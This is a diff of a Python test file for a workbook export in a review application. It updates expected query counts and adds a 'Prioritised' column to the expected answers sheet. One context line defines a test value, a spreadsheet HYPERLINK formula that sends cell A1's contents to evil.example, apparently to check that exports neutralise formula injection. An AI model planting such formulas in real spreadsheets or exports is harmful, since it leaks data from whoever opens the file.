@@ -31,9 +31,12 @@ from reviews.workbooks import CELL_LIMIT, CONTENT_TYPE, CUT, safe_text, sheet_ti
 from tests.factories import lens_bytes
 
 # session, user, workload, its lens reviews; the snapshots: pillars, questions, choices, answers
-# with their choice rows and items (one query), pillar notes; the line in the activity log
-ANSWERS_QUERIES = 10
-PLAN_QUERIES = 11  # session, user, lens review, the snapshot (5), open items, activity line
+# with their choice rows and items (one query), pillar notes; the workload's profile; the line in
+# the activity log
+ANSWERS_QUERIES = 11
+PLAN_QUERIES = (
+    12  # session, user, lens review, the snapshot (5), open items, profile, activity line
+)
 DASHBOARD_QUERIES = 8  # session, user, and the dashboard's partial without the form's choices
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
 
@@ -145,6 +148,7 @@ def test_the_answers_workbook_has_a_sheet_per_lens_and_a_row_per_question(
         "Question ID",
         "Question",
         "Risk",
+        "Prioritised",
         "Score",
         "Ticked choices",
         "Not applicable choices",
@@ -160,6 +164,7 @@ def test_the_answers_workbook_has_a_sheet_per_lens_and_a_row_per_question(
         "Question ID": "sec1",
         "Question": answer.question.title,
         "Risk": "Medium risk",
+        "Prioritised": "No",
         "Score": pytest.approx(2 / practices),
         "Ticked choices": "\n".join(titles_of(answer, "sec1_bp1", "sec1_bp2")),
         "Not applicable choices": None,
